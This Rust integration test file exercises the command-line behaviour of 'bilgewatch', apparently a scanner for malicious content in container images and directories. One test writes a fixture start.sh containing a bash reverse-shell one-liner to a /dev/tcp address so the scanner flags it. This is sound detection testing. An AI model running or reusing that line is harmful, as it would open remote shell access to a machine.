//! The program from outside: what it prints, where, and its exit code. No test opens a connection.

// A helper of a test may unwrap like the test itself.
#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use tempfile::TempDir;

const SAMPLE: &str = include_str!("sample.json");

/// The program without anything of the environment that could change what it does.
fn bilgewatch(args: &[&str]) -> Command {
    let mut command = Command::cargo_bin("bilgewatch").unwrap();
    command.env_clear().args(args);
    command
}

/// Standard output, standard error and exit code.
fn outcome(command: &mut Command) -> (String, String, i32) {
    let output = command.output().unwrap();
    (
        String::from_utf8(output.stdout).unwrap(),
        String::from_utf8(output.stderr).unwrap(),
        output.status.code().unwrap(),
    )
}

fn run(args: &[&str]) -> (String, String, i32) {
    outcome(&mut bilgewatch(args))
}

/// A folder with the sample report in it.
fn with_sample() -> (TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("report.json");
    std::fs::write(&file, SAMPLE).unwrap();
    (folder, file)
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

#[test]
fn help_is_on_stdout_and_names_the_exit_codes() {
    for args in [&["--help"][..], &["scan", "--help"], &["report", "-h"]] {
        let (out, err, code) = run(args);
        assert_eq!((err.as_str(), code), ("", 0));
        assert!(out.contains("Exit codes:"), "{out}");
    }
    let (out, ..) = run(&["scan", "--help"]);
    assert!(out.contains("docker save app | bilgewatch scan -"));
}

#[test]
fn a_wrong_command_line_is_an_error_and_no_finding() {
    for (args, words) in [
        (&[][..], "Usage"),
        (&["scan"], "TARGET"),
        (&["scan", "x", "--no-such-option"], "--no-such-option"),
        (&["scan", "x", "-o", "xml"], "choose one of text, json"),
        (
            &["scan", "x", "-o", "json", "-o", "sarif"],
            "two formats for standard output",
        ),
        (&["scan", "x", "--fail-on", "all"], "malicious"),
        (&["scan", "x", "--platform", "arm64"], "os/architecture"),
        (&["scan", "x", "--jobs", "0"], "from 1"),
        (&["scan", "x", "-q", "-v"], "--quiet"),
        (&["scan", "x", "--password-stdin"], "--username"),
        (
            &["scan", "-", "--username", "u", "--password-stdin"],
            "BILGEWATCH_PASSWORD",
        ),
        (&["scan", "-", "-"], "twice"),
        (
            &["scan", "x", "--ignore-file", "no-such-file"],
            "no-such-file",
        ),
        (&["scan", "x", "--config", "no-such-file"], "no-such-file"),
        (
            &["scan", "x", "-o", "json=no-such-folder/a"],
            "no-such-folder",
        ),
        (&["report", "no-such-file"], "no-such-file"),
        (&["explain", "no/such-thing"], "bilgewatch rules"),
    ] {
        let (out, err, code) = run(args);
        assert_eq!(code, 1, "{args:?}: {err}");
        assert_eq!(out, "", "{args:?}");
        assert!(err.contains(words), "{args:?}: {err}");
    }
}

#[test]
fn a_bare_reference_is_told_the_verb() {
    for word in ["tomcat:9", "ghcr.io/a/b", "nginx"] {
        let (_, err, code) = run(&[word]);
        assert_eq!(code, 1);
        assert!(err.contains(&format!("bilgewatch scan {word}")), "{err}");
    }
    let (_, err, _) = run(&["scna"]);
    assert!(
        err.contains("'scan'") && !err.contains("scan scna"),
        "{err}"
    );
}

#[test]
fn a_saved_report_has_the_exit_code_of_the_scan() {
    let (_folder, file) = with_sample();
    for (args, expected) in [
        (&[][..], 2),
        (&["--fail-on", "malicious"], 2),
        (&["--fail-on", "never"], 1),
        (&["-q"], 2),
    ] {
        let all: Vec<_> = ["report", text(&file)]
            .iter()
            .chain(args)
            .copied()
            .collect();
        let (out, _, code) = run(&all);
        assert_eq!(code, expected, "{args:?}");
        assert!(out.contains("registry.example.com"));
    }
}

#[test]
fn a_saved_report_survives_being_shown_as_json() {
    let (_folder, file) = with_sample();
    let (out, err, code) = run(&["report", text(&file), "-o", "json"]);
    assert_eq!((out.as_str(), err.as_str(), code), (SAMPLE, "", 2));
    let mut from_stdin = bilgewatch(&["report", "-", "-o", "json"]);
    let (again, ..) = outcome(from_stdin.write_stdin(SAMPLE));
    assert_eq!(again, SAMPLE);
}

#[test]
fn two_runs_give_the_same_bytes_in_every_format() {
    let (folder, file) = with_sample();
    let outputs = || {
        let formats = ["text", "json", "sarif", "markdown", "junit"];
        let mut args = vec!["report".to_owned(), text(&file).to_owned()];
        for format in formats {
            args.push(format!(
                "-o{format}={}",
                folder.path().join(format).display()
            ));
        }
        let args: Vec<_> = args.iter().map(String::as_str).collect();
        let (out, err, code) = run(&args);
        assert_eq!((out.as_str(), err.as_str(), code), ("", "", 2));
        formats.map(|format| std::fs::read_to_string(folder.path().join(format)).unwrap())
    };
    let first = outputs();
    assert_eq!(first, outputs());
    for text in first {
        assert!(
            text.ends_with('\n') && text.contains("shell/reverse"),
            "{text}"
        );
        assert!(!text.contains('\u{1b}'));
    }
}

#[test]
fn colours_are_asked_for() {
    let (_folder, file) = with_sample();
    let colored = |command: &mut Command| outcome(command).0.contains('\u{1b}');
    let report = ["report", text(&file)];
    assert!(!colored(&mut bilgewatch(&report)));
    assert!(colored(bilgewatch(&report).env("CLICOLOR_FORCE", "1")));
    assert!(colored(bilgewatch(&report).args(["--color", "always"])));
    let mut never = bilgewatch(&report);
    assert!(!colored(
        never.env("CLICOLOR_FORCE", "1").args(["--color", "never"])
    ));
}

#[test]
fn options_win_over_environment_over_file() {
    let (folder, file) = with_sample();
    let config = folder.path().join("bilgewatch/config.toml");
    std::fs::create_dir(folder.path().join("bilgewatch")).unwrap();
    std::fs::write(&config, "fail-on = 'never'\nquiet = true\n").unwrap();
    let report = ["report", text(&file)];
    let with_file = || {
        let mut command = bilgewatch(&report);
        command.env("XDG_CONFIG_HOME", folder.path());
        command
    };
    let (out, _, code) = outcome(&mut with_file());
    assert_eq!((out.lines().count(), code), (5, 1), "{out}");
    let (_, _, code) = outcome(with_file().env("BILGEWATCH_FAIL_ON", "malicious"));
    assert_eq!(code, 2);
    let mut all = with_file();
    all.env("BILGEWATCH_FAIL_ON", "malicious")
        .args(["--fail-on", "never"]);
    assert_eq!(outcome(&mut all).2, 1);

    std::fs::write(&config, "fail-on = 'sometimes'\n").unwrap();
    let (_, err, code) = outcome(&mut with_file());
    assert_eq!(code, 1);
    assert!(
        err.contains("config.toml") && err.contains("sometimes"),
        "{err}"
    );
}

#[test]
fn ignored_findings_do_not_gate_and_are_kept() {
    let (folder, file) = with_sample();
    let ignore = folder.path().join("ignore.toml");
    std::fs::write(
        &ignore,
        "[[ignore]]\nrule = 'shell/reverse'\nreason = 'a drill'\n\
         [[ignore]]\nrule = 'no/such'\nreason = 'gone'\n",
    )
    .unwrap();
    let json = folder.path().join("out.json");
    let (_, err, code) = run(&[
        "report",
        text(&file),
        "--ignore-file",
        text(&ignore),
        "--fail-on=malicious",
        &format!("-ojson={}", json.display()),
    ]);
    assert_eq!(code, 1, "the error of the sample remains");
    assert!(
        err.contains("entry 2") && err.contains("matched nothing"),
        "{err}"
    );
    let saved = std::fs::read_to_string(json).unwrap();
    assert!(saved.contains("a drill") && saved.contains("4c1f0a9e2b7d"));
}

#[test]
fn a_finding_is_explained_in_full() {
    let (_folder, file) = with_sample();
    let (out, _, code) = run(&["explain", "4c1f0a9e2b7d", "--report", text(&file)]);
    assert_eq!(code, 0);
    for part in [
        "Reverse shell",
        "start.sh:12",
        "A drill of a red team",
        "# buildkit",
    ] {
        assert!(out.contains(part), "{part}\n{out}");
    }
    let (_, err, code) = run(&["explain", "ffff", "--report", text(&file)]);
    assert_eq!(code, 1);
    assert!(err.contains("neither a rule nor a finding"), "{err}");
}

#[test]
fn rules_are_listed_and_each_is_explained() {
    let (out, _, code) = run(&["rules", "-o", "json"]);
    assert_eq!(code, 0);
    let list: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(list["schema"], "bilgewatch.rules/1");
    for rule in list["rules"].as_array().unwrap() {
        let id = rule["id"].as_str().unwrap();
        let (card, _, code) = run(&["explain", id]);
        assert_eq!(code, 0);
        assert!(card.contains("What could be benign"), "{card}");
    }
}

#[test]
fn generated_texts() {
    let (schema, ..) = run(&["schema"]);
    let schema: serde_json::Value = serde_json::from_str(&schema).unwrap();
    let sample: serde_json::Value = serde_json::from_str(SAMPLE).unwrap();
    assert!(jsonschema::is_valid(&schema, &sample));

    for shell in ["bash", "zsh", "fish"] {
        let (out, _, code) = run(&["completions", shell]);
        assert_eq!(code, 0);
        assert!(out.contains("fail-on"), "{shell}");
    }
    let (page, ..) = run(&["man"]);
    assert!(page.contains(".TH") && page.contains("Exit codes"));
    let folder = tempfile::tempdir().unwrap();
    assert_eq!(run(&["man", text(folder.path())]).2, 0);
    let scan = std::fs::read_to_string(folder.path().join("bilgewatch-scan.1")).unwrap();
    assert!(scan.contains("\\-\\-fail\\-on"));

    let (version, ..) = run(&["version"]);
    assert!(version.contains("rules ") && version.contains("ATT&CK "));
    let (short, ..) = run(&["--version"]);
    assert_eq!(
        short.trim(),
        format!("bilgewatch {}", env!("CARGO_PKG_VERSION"))
    );
}

/// `bilgewatch report … | head`: no message, and the exit code of the report.
#[test]
fn a_reader_that_goes_away_is_no_error() {
    use std::process::{Command, Stdio};
    let (_folder, file) = with_sample();
    let mut child = Command::new(assert_cmd::cargo::cargo_bin!("bilgewatch"))
        .args(["report", text(&file)])
        .env_clear()
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    assert_eq!(output.status.code(), Some(2));
}

/// What a real scan writes keeps to both schemas; a target that fails does not stop the other.
#[test]
fn a_scan_keeps_to_the_schemas() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let script = "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
    std::fs::write(root.join("start.sh"), script).unwrap();
    let (json, sarif) = (folder.path().join("a.json"), folder.path().join("a.sarif"));
    let (out, err, code) = run(&[
        "scan",
        "oci-dir:no-such-folder",
        &format!("dir:{}", root.display()),
        &format!("-ojson={}", json.display()),
        &format!("-osarif={}", sarif.display()),
    ]);
    assert_eq!((out.as_str(), code), ("", 2), "{err}");
    assert!(err.contains("no-such-folder"), "{err}");
    let read = |path: &Path| -> serde_json::Value {
        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
    };
    let report = read(&json);
    let schema: serde_json::Value = serde_json::from_str(&run(&["schema"]).0).unwrap();
    jsonschema::validate(&schema, &report).unwrap();
    assert_eq!(report["errors"][0]["target"], "oci-dir:no-such-folder");
    assert_eq!(report["reports"][0]["findings"][0]["where"]["line"], 2);
    // The published pattern of languages has a stray bracket, which strict readers refuse.
    let schema =
        include_str!("schema/sarif-2.1.0.json").replace("-[a-zA-Z]{2}]?$", "-[a-zA-Z]{2}$");
    let schema: serde_json::Value = serde_json::from_str(&schema).unwrap();
    jsonschema::validate(&schema, &read(&sarif)).unwrap();
}

#[test]
fn rules_of_the_users_own_are_applied_and_a_bad_one_is_named() {
    let folder = tempfile::tempdir().unwrap();
    let rules = folder.path().join("own.yar");
    let file = folder.path().join("data.bin");
    std::fs::write(
        &rules,
        "rule marker { meta: author = \"A\" severity = \"high\" confidence = \"high\" \
         strings: $m = \"MARKER\" condition: $m }\nrule bad { condition: nothing }",
    )
    .unwrap();
    std::fs::write(&file, b"\0\x01..MARKER..").unwrap();
    let target = format!("file:{}", text(&file));
    let (out, err, code) = run(&["scan", "--rules", text(&rules), "-o", "json", &target]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains("own.yar:2: the rule `bad` was left out"),
        "{err}"
    );
    let document: serde_json::Value = serde_json::from_str(&out).unwrap();
    let finding = &document["reports"][0]["findings"][0];
    assert_eq!(finding["rule"], "yara/match/marker");
    assert_eq!(finding["evidence"], "$m at 0x4: MARKER");
    let ignore = folder.path().join("ignore.toml");
    std::fs::write(
        &ignore,
        "[[ignore]]\nrule = \"yara/match/marker\"\nreason = \"ours\"\n",
    )
    .unwrap();
    let ignored = [
        "scan",
        "--rules",
        text(&rules),
        "--ignore-file",
        text(&ignore),
        &target,
    ];
    assert_eq!(run(&ignored).2, 0);
    let (card, _, code) = run(&["explain", "yara/match/marker"]);
    assert_eq!(code, 0);
    assert!(card.contains("yara/match"), "{card}");
}
